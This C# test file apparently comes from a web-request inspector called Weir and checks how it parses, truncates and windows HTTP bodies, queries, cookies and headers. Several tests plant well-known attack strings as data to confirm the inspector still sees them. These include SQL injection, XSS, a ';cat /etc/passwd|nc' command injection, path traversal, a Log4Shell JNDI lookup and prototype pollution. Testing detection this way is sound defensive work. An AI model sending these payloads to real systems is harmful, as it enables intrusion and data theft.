using System.Text;
using Shouldly;
using Weir.Http;
using Xunit;

namespace Weir.Tests.Http.Walk;

public sealed class BodyWalkTests
{
    [Theory]
    [InlineData("application/x-www-form-urlencoded", "a=b%27&c=1&d=e+f", "form:a=b%27|form:d=e+f", VerdictFlags.None)]
    [InlineData("", "a=b%27&c=1", "form:a=b%27", VerdictFlags.None)]
    [InlineData("", "{\"a\":\"b'\"}", "json:$.a=b'", VerdictFlags.None)]
    [InlineData("application/json", "{\"a\":\"b'\"}", "json:$.a=b'", VerdictFlags.None)]
    [InlineData("application/problem+json; charset=utf-8", "{\"a\":\"b'\"}", "json:$.a=b'", VerdictFlags.None)]
    [InlineData("text/plain", "{\"a\":\"b'\"}", "json:$.a=b'", VerdictFlags.ContentTypeMismatch)]
    [InlineData("application/x-www-form-urlencoded", "[\"b'\"]", "json:$[0]=b'", VerdictFlags.ContentTypeMismatch)]
    [InlineData("image/png", "<?xml version=\"1.0\"?><a>b'</a>", "xml:/a=b'", VerdictFlags.ContentTypeMismatch)]
    [InlineData("text/plain", "<order><id>b'</id></order>", "xml:/order/id=b'", VerdictFlags.ContentTypeMismatch)]
    [InlineData("text/plain", "<p>b'</p>", "body=<p>b'</p>", VerdictFlags.None)]
    [InlineData("application/json", "a=b'&c=d'", "form:a=b'|form:c=d'", VerdictFlags.ContentTypeMismatch)]
    [InlineData("application/json", "\"b'\"", "json:$=b'", VerdictFlags.None)]
    [InlineData("text/plain", "it's prose = text", "body=it's prose = text", VerdictFlags.None)]
    [InlineData("application/octet-stream", "it's text", "body=it's text", VerdictFlags.None)]
    [InlineData("application/x-protobuf", "\u0001\u0012abcdef\u0002abc\u0001abc'defg", "body=abcdef|body=abc'defg", VerdictFlags.None)]
    [InlineData("application/json", "\u0001\u0002abc\u0003it's text\u0004", "json=it's text", VerdictFlags.BrokenBody)]
    [InlineData("application/x-www-form-urlencoded", "{\"a\":1}&b=it's+here", "json=&b=it's+here", VerdictFlags.BrokenBody | VerdictFlags.ContentTypeMismatch)]
    [InlineData("", "   ", "", VerdictFlags.None)]
    public void Run_Body_IsWalkedByItsContent(string contentType, string body, string expected, VerdictFlags flags)
    {
        Walked walked = Walked.Body(body, contentType);
        string.Join('|', walked.Values).ShouldBe(expected);
        walked.Flags.ShouldBe(flags);
    }

    [Fact]
    public void Run_DeclaredTextWithControlCharacter_KeepsBytesBeyondAscii()
        => Walked.Body(Encoding.Latin1.GetBytes("abcd\u00e9\u00e8f\0x"), "text/plain").Values.ShouldBe(["body=abcd\u00e9\u00e8f"]);

    [Theory]
    [InlineData("application/json", "{\"k\":[", "\"some plain words\",", "]}", "\"it's here\"")]
    [InlineData("application/x-www-form-urlencoded", "a=b", "&name=some+plain+words", "", "&n=it's here")]
    [InlineData("text/xml", "<r>", "<i>some plain words</i>", "</r>", "<i>it's here</i>")]
    [InlineData("text/plain", "", "some plain words ", "", "it's here")]
    public void Run_LongBody_ReadsHeadTailAndWindowsBetween(string contentType, string start, string filler, string end, string needle)
    {
        const int Fillers = 30_000;
        int length = filler.Length * Fillers;
        int between = length - WalkLimits.Default.Bytes / 2;

        // The start, the middle of the first and of the last window, the end.
        int[] places = [0, WalkLimits.Default.Bytes / 8 * 3 + between / 16, WalkLimits.Default.Bytes / 8 * 3 + between / 16 * 15, length];
        string comma = contentType.EndsWith("json", StringComparison.Ordinal) ? "," : "";
        string fillers = string.Concat(Enumerable.Repeat(filler, Fillers));
        foreach (int place in places)
        {
            int before = place / filler.Length * filler.Length;
            byte[] body = Encoding.ASCII.GetBytes(start + fillers[..before] + needle + comma + fillers[before..] + end);
            Walked walked = Walked.Body(body, contentType, new WalkLimits { Values = 20_000 });
            walked.Flags.ShouldBe(VerdictFlags.Truncated);
            walked.Values.ShouldContain(value => value.Contains("it's here", StringComparison.Ordinal), $"{contentType} at {place}");
        }
    }

    [Fact]
    public void Run_LongPlainText_ReadsWindowsEvenlySpread()
    {
        byte[] body = new byte[10_000_000];
        for (int i = 0; i < body.Length; i++)
        {
            body[i] = (byte)('a' + i / 100_000 % 26);
        }

        Walked walked = Walked.Body(body, "text/plain");
        walked.Values.Count.ShouldBe(2 + WalkLimits.Windows);
        walked.Values.Skip(1).Take(WalkLimits.Windows).Select(value => value[^1]).Distinct().Count().ShouldBe(WalkLimits.Windows);
    }

    [Fact]
    public void Run_LongTextWithRareChunks_ReadsNoMoreThanTheLimit()
    {
        byte[] body = new byte[10_000_000];
        body.AsSpan().Fill((byte)'a');
        for (int i = 50_000; i < body.Length; i += 77_777) body[i] = (byte)"'<;|{"[i / 77_777 % 5];

        Walked walked = Walked.Body(body, "text/plain");
        walked.Values.Count.ShouldBeInRange(2 + WalkLimits.Windows, 2 + WalkLimits.Windows + WalkLimits.ChosenWindows);
        walked.Values.Sum(value => value.Length - "body=".Length).ShouldBeInRange(WalkLimits.Default.Bytes - 8192, WalkLimits.Default.Bytes);
    }

    [Theory]
    [InlineData("prose", "text/plain", "5' or 1=1-- -")]
    [InlineData("prose", "text/plain", "<script>alert(1)</script>")]
    [InlineData("prose", "text/plain", ";cat /etc/passwd|nc")]
    [InlineData("zeros", "text/plain", "../../../etc/passwd")]
    [InlineData("base64", "text/plain", "1) union select 2,3#")]
    [InlineData("json", "application/json", "5' or 1=1-- -")]
    [InlineData("json", "application/json", "${jndi:ldap://x.example/a}")]
    [InlineData("json", "application/json", "{{7*7}}")]
    [InlineData("form", "application/x-www-form-urlencoded", "1%27+or+%271%27%3D%271")]
    [InlineData("form", "application/x-www-form-urlencoded", "%3Csvg%2Fonload%3Dalert(1)%3E")]
    public void Run_AttackAnywhereInALongBody_IsRead(string padding, string contentType, string attack)
    {
        const int Length = 600_000;
        const int Places = 37;
        string text = Padding(padding, Length);
        List<int> missed = [];
        for (int i = 0; i < Places; i++)
        {
            int at = text.IndexOf(' ', StringComparison.Ordinal) < 0 ? Length / Places * i : text.IndexOf(padding == "form" ? '=' : ' ', Length / Places * i) + 1;
            Walked walked = Walked.Body(Encoding.ASCII.GetBytes(text.Insert(at, attack)), contentType, new WalkLimits { Values = 20_000 });
            if (!walked.Values.Any(value => value.Contains(attack, StringComparison.Ordinal))) missed.Add(at);
            walked.Flags.ShouldBe(VerdictFlags.Truncated);
        }

        missed.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("application/json", "[{\"a\":true}", ",{\"b\":[false,null,-12.5e3,\"it's\"],\"c\":{\"d\":true}}", "]")]
    [InlineData("text/xml", "<?xml version=\"1.0\"?><r>", "<i a=\"it's\">text &amp; more<!-- c --><![CDATA[d]]></i>", "</r>")]
    [InlineData("multipart/form-data; boundary=xyz", "", "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nit's\r\n", "--xyz--\r\n")]
    public void Run_LongWholeBody_IsTruncatedAndNotBroken(string contentType, string start, string piece, string end)
    {
        byte[] body = Encoding.ASCII.GetBytes(start + string.Concat(Enumerable.Repeat(piece, 4_000_000 / piece.Length)) + end);
        for (int shift = 0; shift < piece.Length; shift++)
        {
            // A limit that grows by one byte cuts the body at another place each time.
            Walked walked = Walked.Body(body, contentType, new WalkLimits { Bytes = 100_000 + (8 * shift), Values = 100_000 });
            walked.Flags.ShouldBe(VerdictFlags.Truncated);
        }
    }

    [Theory]
    [InlineData("application/x-www-form-urlencoded", "a=b'", "&a=b'")]
    [InlineData("application/json", "[\"b'\"", ",\"b'\"")]
    [InlineData("text/xml", "<r>", "<i>b'</i>")]
    public void Run_TooManyValues_YieldsTheRestAsText(string contentType, string start, string more)
    {
        var text = new StringBuilder(start);
        text.Insert(start.Length, more, 5000).Append("it's here");
        Walked walked = Walked.Body(text.ToString(), contentType);
        walked.Flags.HasFlag(VerdictFlags.TooManyValues).ShouldBeTrue();
        walked.Values.Count.ShouldBeInRange(WalkLimits.Default.Values, WalkLimits.Default.Values + (text.Length / WalkLimits.RestPiece));
        walked.Values[^1].ShouldEndWith("it's here");
    }

    [Theory]
    [InlineData("query", "&p=v1", "&q=%27or+1")]
    [InlineData("query", "&p=v%20a", "&q=%27or+1")]
    [InlineData("query", "&p=v1", "&__proto__=abc")]
    [InlineData("form", "&p=v1", "&q=%27or+1")]
    [InlineData("form", "&p=v+w", "&q=%27or+1")]
    [InlineData("cookie", "; p=v1", "; q=%27or+1")]
    [InlineData("headers", "X-P: v1\r\n", "X-Q: it's %27or+1\r\n")]
    [InlineData("multipart", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nv w\r\n", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n%27or+1\r\n")]
    public void Run_AttackAmongThousandsOfValues_StandsNearlyAlone(string place, string filler, string attack)
    {
        string fillers = string.Concat(Enumerable.Repeat(filler, 5000));
        string text = fillers + attack + fillers;
        WalkLimits limits = new() { Bytes = 2_000_000 };
        Walked walked = place switch
        {
            "query" => Walked.Request(Encoding.ASCII.GetBytes("/?" + text), [], [], limits),
            "cookie" => Walked.Request("/"u8.ToArray(), Encoding.ASCII.GetBytes("Cookie: " + text + "\r\n"), [], limits),
            "headers" => Walked.Request("/"u8.ToArray(), Encoding.ASCII.GetBytes(text), [], limits),
            "form" => Walked.Body(Encoding.ASCII.GetBytes(text), "application/x-www-form-urlencoded", limits),
            _ => Walked.Body(Encoding.ASCII.GetBytes(text + "--x--"), "multipart/form-data; boundary=x", limits),
        };

        string needle = attack.Contains('%', StringComparison.Ordinal) ? "%27or+1" : "__proto__";
        walked.Values.ShouldContain(value => value.Contains(needle, StringComparison.Ordinal) && value.Length < needle.Length + (3 * WalkLimits.RestPiece));
    }

    [Fact]
    public void Run_TargetAndHeadersBeyondTheirShare_AreReadAtHeadAndTail()
    {
        byte[] target = Encoding.ASCII.GetBytes("/a?" + string.Concat(Enumerable.Repeat("n=some+words&", 10_000)) + "last=it's");
        byte[] headers = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("X-A: some words\r\n", 10_000)) + "X-B: it's\r\n");
        Walked walked = Walked.Request(target, headers, Encoding.ASCII.GetBytes("c=it's"));
        walked.Values.ShouldContain(value => value.EndsWith("last=it's", StringComparison.Ordinal));
        walked.Values.ShouldContain(value => value.Contains("X-B: it's", StringComparison.Ordinal) || value == "header:x-b=it's");
        walked.Values.ShouldContain(value => value.EndsWith("it's", StringComparison.Ordinal) && (value.StartsWith("form", StringComparison.Ordinal) || value.StartsWith("body", StringComparison.Ordinal)));
        walked.Flags.ShouldBe(VerdictFlags.Truncated | VerdictFlags.TooManyValues);
    }

    /// <summary>Made text of a kind, never twice the same sentence.</summary>
    private static string Padding(string kind, int length)
    {
        var random = new Random(11);
        string[] words = ["the", "don't", "house", "It's", "well-known", "river", "(often)", "and", "12", "3.5", "John's", "\"quoted\"", "seven", "at", "e.g.", "and/or", "read", "see", "years", "1999", "R&D"];
        string[] ends = [". ", ", ", " ", " ", " ", " ", "; ", "! ", ": "];
        string Word() => words[random.Next(words.Length)];
        string Sentence() => string.Concat(Enumerable.Range(0, 12).Select(_ => Word() + ends[random.Next(ends.Length)]));
        var text = new StringBuilder(kind == "json" ? "[" : "");
        while (text.Length < length)
        {
            text.Append(kind switch
            {
                "prose" => Sentence(),
                "zeros" => new string('0', 1000),
                "base64" => Convert.ToBase64String(Encoding.Latin1.GetBytes(Sentence() + random.NextInt64())).TrimEnd('='),
                "json" => $"{{\"id\":{random.Next()},\"name\":\"{Sentence().Replace("\"", "\\\"", StringComparison.Ordinal)}\",\"tags\":[\"{Word().Trim('"')}\",true],\"url\":\"https://a.example/{random.Next()}?b={random.Next()}\"}},",
                _ => $"&n{random.Next(99)}={Uri.EscapeDataString(Sentence()).Replace("%20", "+", StringComparison.Ordinal)}",
            });
        }

        return text.ToString() + (kind == "json" ? "0]" : "");
    }
}
